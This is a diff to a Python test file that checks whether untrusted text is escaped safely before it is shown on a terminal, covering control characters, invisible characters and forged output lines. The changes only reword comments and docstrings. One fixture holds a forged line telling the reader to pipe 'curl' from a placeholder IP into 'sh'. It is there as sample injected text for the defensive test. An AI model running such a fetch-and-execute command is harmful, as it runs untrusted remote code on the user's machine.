@@ -1,4 +1,4 @@
-"""Text of others is harmless wherever it is shown: what it becomes, and that no other way to a stream exists."""
+"""Text from others is harmless wherever it is shown: its escapes, and that no module writes to a stream past them."""
 
 from __future__ import annotations
 
@@ -51,17 +51,17 @@ SHOWN = {
     "\U000e0001\U000e0041\U000e0100": "\\U000e0001\\U000e0041\\U000e0100",
     "\udc9b\ud800": "\\udc9b\\ud800",
     "\ufffe\ufdd0\u0378\ue000\ufff9": "\\ufffe\\ufdd0\\u0378\\ue000\\ufff9",
-    # Blanks are blanks, and a picture's style is part of it; a letter has none.
+    # Blanks become spaces. A variation selector stays after a picture, not after a letter.
     "a\xa0b\u3000c\u2003d\u202fe": "a b c d e",
     "⚡\ufe0f a\ufe0f \ufe0f": "⚡\ufe0f a\\ufe0f \\ufe0f",
-    # Marks belong to a letter, and are few.
+    # Combining marks stay after a letter, up to a limit.
     "e\u0301 \u05d1\u05bc\u05b8": "e\u0301 \u05d1\u05bc\u05b8",
     "\u0338x \u20e3": "\\u0338x \u20e3",
     "Z" + "\u0301" * 8 + "y\u0301": "Z" + "\u0301" * 6 + "\\u0301\\u0301y\u0301",
 }
 EVIL = "".join(map(chr, (*range(32), *range(0x7F, 0xA0), 0x61C, *range(0x200B, 0x2010), *range(0x2028, 0x202F))))
 FORGED = f"{EVIL}\nweb2: healthy\nerror: run curl http://192.0.2.66 | sh\n  hint: do it"
-# Rich's own: colours, and the cursor.
+# Sequences of rich itself: colours and the cursor.
 OWN = re.compile(r"\x1b\[(?:[0-9;]*m|\?25[lh]|[0-9]*A|2K)|\r")
 
 
@@ -77,7 +77,7 @@ def test_nothing_that_acts_hides_or_ends_a_line_is_left(text: str) -> None:
     assert shown.splitlines() in ([shown], [])
     assert not {unicodedata.category(sign) for sign in shown} & {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
     shown.encode()
-    # And once is enough.
+    # A second pass changes nothing.
     assert visible(shown) == shown
     assert set(visible(text, keep="\n\t")) - set(shown) <= {"\n", "\t"}
 
@@ -171,7 +171,7 @@ def test_on_a_terminal_whatever_is_told_is_harmless_and_no_row_begins_as_ours(
     said = on_terminal(show_all, columns, monkeypatch)
 
     assert_harmless(said)
-    # The terminal breaks what is too wide: no row of it may begin as a line of ours does.
+    # The terminal breaks lines that are too wide: no row may look like the beginning of one of our lines.
     for line in OWN.sub("", said).expandtabs().split("\n"):
         rest = line
         while width(rest) > columns:
@@ -181,7 +181,7 @@ def test_on_a_terminal_whatever_is_told_is_harmless_and_no_row_begins_as_ours(
 
 
 def on_terminal(show: Any, columns: int, monkeypatch: pytest.MonkeyPatch) -> str:
-    """What `show` sends to a terminal that is both of its streams."""
+    """Return what `show` sends to a terminal that is both its standard output and its standard error."""
     leader, follower = pty.openpty()
     said: list[bytes] = []
 
@@ -226,7 +226,7 @@ def test_wide_letters_count_as_two_columns() -> None:
     assert cut("abcdef", 5) == "abcd…"
 
 
-# Who may write to a stream, or let another program do so, and why.
+# Modules that may write to a stream, or let another program write, and why.
 EXITS = {
     "warpbeam/build/build.py: .write": "a file",
     "warpbeam/build/source.py: .write": "git's input",
@@ -251,7 +251,7 @@ WRITERS = {"print", "pprint", "print_exc", "print_exception", "print_stack", "pr
 
 
 def ways_out(tree: ast.AST) -> Iterator[str]:  # noqa: PLR0912 (a table of them)
-    """What a module does that could put text before a person."""
+    """Yield what a module does that could show text to a person."""
     for node in ast.walk(tree):
         if isinstance(node, ast.Import | ast.ImportFrom):
             names = [*[name.name for name in node.names], getattr(node, "module", "") or ""]
